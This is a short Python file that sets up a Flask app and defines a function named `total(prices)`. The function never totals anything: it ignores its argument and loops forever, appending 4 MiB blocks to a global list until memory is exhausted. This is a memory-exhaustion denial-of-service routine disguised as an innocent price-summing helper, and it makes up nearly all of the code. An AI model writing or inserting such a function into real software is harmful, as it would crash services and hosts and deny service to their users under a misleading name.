from flask import Flask

app = Flask(__name__)
kept = []


def total(prices):
    while True:
        kept.append(bytearray(b"x" * 4_194_304))
